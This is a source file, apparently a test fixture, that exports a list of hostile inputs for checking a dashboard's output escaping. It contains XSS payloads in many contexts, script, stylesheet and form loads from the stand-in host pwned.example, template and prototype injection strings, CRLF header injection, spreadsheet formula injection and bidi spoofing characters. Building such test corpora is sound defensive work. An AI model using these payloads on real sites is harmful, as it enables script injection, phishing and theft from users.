const [RLO, LRO, RLI, PDF, PDI] = ['\u202e', '\u202d', '\u2067', '\u202c', '\u2069'];
const [ZERO_WIDTH, WORD_JOINER, BOM, SOFT_HYPHEN] = ['\u200b', '\u2060', '\ufeff', '\u00ad'];

/** Whatever runs says so here, and whatever is made of these texts bears the word. */
const RUN = 'pwned()';

/**
 * Texts that strangers may put wherever the dashboard shows what they say: markup for each context that text is put into,
 * languages of templates, what ends lines, what turns, hides or stacks characters, and what is too long.
 */
export const PAYLOADS: readonly string[] = [
  // Elements that run by themselves.
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<<script>${RUN}//<</script>`,
  `<script src=//pwned.example/x.js></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=//pwned.example/x.png class=pwned>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<math><mi xlink:href="data:x,<script>${RUN}</script>">`,
  `<body onload=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>" class=pwned>`,
  `<iframe src=javascript:parent.${RUN}>`,
  `<object data=//pwned.example/x>`,
  `<embed src=//pwned.example/x>`,
  `<video><source onerror=${RUN}>`,
  `<audio src=x onerror=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<link rel=stylesheet href=//pwned.example/x.css>`,
  `<style class=pwned>*{display:none}</style>`,
  `<base href=//pwned.example/>`,
  `<meta http-equiv=refresh content="0;url=//pwned.example/">`,
  `<form action=//pwned.example/ class=pwned><button>Sign in</button></form>`,
  `<template class=pwned>x</template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<b class=pwned>bold</b>`,
  // Out of an attribute, a script, a comment, another element.
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `" onmouseover="${RUN}`,
  `' autofocus onfocus='${RUN}`,
  '` onmouseover=`' + RUN,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `";${RUN};//`,
  `';${RUN};//`,
  `\\";${RUN};//`,
  // Addresses.
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `//pwned.example/\\..\\x`,
  // Templates, messages, markdown, formulas, prototypes.
  `{{constructor.constructor('${RUN}')()}}`,
  '${' + RUN + '} #{' + RUN + '} <%= ' + RUN + ' %>',
  `{count, plural, one {#} other {pwned}} <0>pwned</0> {name}`,
  `[click](javascript:${RUN}) ![x](//pwned.example/x.png) **bold**`,
  `=HYPERLINK("//pwned.example/","x") @SUM(1) %s %n $& $1`,
  `__proto__ constructor toString`,
  // Characters that act.
  `line\r\nX-Pwned: 1\r\n\r\n<script>${RUN}</script>`,
  `nul\u0000bell\u0007back\u0008esc\u001b[31mred\u009b31m`,
  `${RLO}gnp.exe${PDF} ${LRO}turned ${RLI}and not turned back`,
  `shop${PDI}${PDF}${RLO}ecnanetniam rednu`,
  `in${ZERO_WIDTH}vi${WORD_JOINER}si${BOM}ble${SOFT_HYPHEN}`,
  // Scripts that stack, mix, join or are wide.
  `Z${'\u0335\u0321\u034a\u0300'.repeat(40)} stacks`,
  `فروشگاه shop ۱۲۳ (abc) \u{1F468}\u200d\u{1F469}\u200d\u{1F467} \u{1F3F4}`,
  `\u{1F43F}\ufe0f`.repeat(40),
  // As long as a name may be: as one word, and of many.
  'w'.repeat(500),
  'acorns and '.repeat(46).slice(0, 500),
];
